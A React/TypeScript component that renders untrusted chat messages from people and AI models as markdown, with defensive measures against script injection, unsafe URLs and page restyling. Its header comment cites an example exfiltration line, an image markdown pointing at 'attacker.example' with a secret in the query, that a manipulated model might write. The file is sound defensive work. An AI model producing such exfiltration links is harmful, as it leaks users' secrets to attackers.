'use client';

import { Fragment, isValidElement, memo, useRef, type ComponentProps, type ReactNode } from 'react';
import { compiler, type MarkdownToJSX } from 'markdown-to-jsx';
import { COPY_LABEL, useCopy } from './copy';
import { keepIntrawordUnderscores } from './intraword-underscores';
import { separateListKinds } from './list-kinds';
import { splitMarkdownBlocks } from './markdown-blocks';
import { directionOf, HEADING_TAG_OF_LEVEL, LINK_REL as REL, safeUrl } from './message-safety';
import styles from './conversation.module.css';

export { safeUrl };

/**
 * Messages are untrusted (people and models write them). markdown-to-jsx turns them into React
 * elements only — no HTML string, no innerHTML — and with `disableParsingRawHTML` raw HTML
 * (`<script>`, `<img onerror>`) shows as the characters people typed.
 *
 * - Links: only http:, https:, mailto: and relative URLs (`safeUrl`). The library's default
 *   sanitizer refuses javascript:/vbscript:/data: but lets `data:image/…` through, so we pass our
 *   own allow-list; an unsafe link keeps its text and loses its href (an `<a>` without href is
 *   not a link). Links open in a new tab with `rel="noopener noreferrer nofollow"`.
 * - Images become links to the image: nothing is fetched by merely reading a message (a model
 *   can be talked into writing `![](https://attacker.example/?q=<secret>)`).
 * - Headings get no `id` (message text must not name elements of the page), and sit below the
 *   page's own headings (`heading`).
 */

/** An image in a message: a link to it, labelled with its alt text. */
function ImageLink({ src, alt, title }: ComponentProps<'img'>) {
  const label = alt || 'Image';
  return typeof src === 'string' && src ? (
    <a href={src} title={title} target="_blank" rel={REL}>
      {label}
    </a>
  ) : (
    <span>{label}</span>
  );
}

/**
 * A code block with a Copy button (code from an agent is there to be used). The clipboard API
 * exists only on https and localhost: elsewhere the code is selected for Ctrl+C instead.
 */
function CodeBlock({ children, ...props }: ComponentProps<'pre'>) {
  const pre = useRef<HTMLPreElement>(null);
  const { state, copy: copyText } = useCopy();
  // The parser ends a block's code with a newline; pasted, it would add an empty line.
  const copy = () => copyText((pre.current?.innerText ?? '').replace(/\n$/, ''), pre.current);
  return (
    <div className={styles.codeBlock}>
      <pre ref={pre} {...props}>
        {children}
      </pre>
      <button type="button" className={styles.copyButton} onClick={copy} aria-live="polite">
        {COPY_LABEL[state]}
      </button>
    </div>
  );
}

/**
 * Code keeps only its class and text. markdown-to-jsx reads attributes from a fence's info string
 * (```js style="position:fixed;inset:0"```), and a message must not restyle, or cover, the page.
 */
function Code({ className, children }: ComponentProps<'code'>) {
  return <code className={className}>{children}</code>;
}

/**
 * A table scrolls sideways inside its own box when wider than the bubble, instead of squeezing
 * its columns until words break letter by letter. Focusable (and named), so keyboard users can
 * scroll it too.
 */
function ScrollingTable(props: ComponentProps<'table'>) {
  return (
    <div className={styles.tableScroll} tabIndex={0} role="group" aria-label="Table">
      <table {...props} />
    </div>
  );
}

/** The text of rendered markdown (strings and elements' children), for a direction check. */
function textOf(node: ReactNode): string {
  if (typeof node === 'string' || typeof node === 'number') return String(node);
  if (Array.isArray(node)) return node.map(textOf).join('');
  return isValidElement<{ children?: ReactNode }>(node) ? textOf(node.props.children) : '';
}

/**
 * A quote's bar and indent go on the side its text starts from. `dir="auto"` cannot say it here:
 * the browser skips children with a `dir` of their own when it looks for the first strong letter,
 * and the quote's paragraphs have one, so an Arabic quote got its bar on the left.
 */
function Quote({ children, ...props }: ComponentProps<'blockquote'>) {
  return (
    <blockquote {...props} dir={directionOf(textOf(children))}>
      {children}
    </blockquote>
  );
}

/**
 * Each block of text takes its direction from its first strong letter (`dir="auto"`), so Arabic
 * or Hebrew reads right to left while the English paragraph beside it stays left to right.
 */
const ownDirection = { props: { dir: 'auto' } };

/** A message's heading, a level below the page's own (`HEADING_TAG_OF_LEVEL`); no `id`: message text must not name elements of the page. */
const heading = (level: keyof typeof HEADING_TAG_OF_LEVEL) => ({ component: HEADING_TAG_OF_LEVEL[level], props: { id: undefined, dir: 'auto', 'data-level': String(level) } });

const OPTIONS: MarkdownToJSX.Options = {
  disableParsingRawHTML: true,
  // A heading needs a space after its #s, as in CommonMark: "#1 priority" and "#hashtags" are text.
  enforceAtxHeadings: true,
  // Always blocks (a one-line message is a paragraph too), side by side in the bubble.
  forceBlock: true,
  wrapper: Fragment,
  sanitizer: (value) => safeUrl(value),
  overrides: {
    a: { props: { target: '_blank', rel: REL } },
    img: { component: ImageLink },
    table: { component: ScrollingTable },
    pre: { component: CodeBlock },
    code: { component: Code },
    p: ownDirection,
    li: ownDirection,
    blockquote: { component: Quote },
    td: ownDirection,
    th: ownDirection,
    h1: heading(1),
    h2: heading(2),
    h3: heading(3),
    h4: heading(4),
    h5: heading(5),
    h6: heading(6),
  },
};

/** One top-level block, memoized on its text: it parses again only when its own text changes. */
const MarkdownBlock = memo(function MarkdownBlock({ text }: { text: string }) {
  return compiler(keepIntrawordUnderscores(separateListKinds(text)), OPTIONS);
});

/**
 * A message's markdown, rendered block by block (`splitMarkdownBlocks`), each block memoized on
 * its text. (A streaming reply is not drawn here but by `streaming-reply.ts`, token by token;
 * this draws it once it is done.)
 */
export const Markdown = memo(function Markdown({ content }: { content: string }) {
  return (
    <>
      {splitMarkdownBlocks(content).map((block, index) => (
        <MarkdownBlock key={index} text={block} />
      ))}
    </>
  );
});
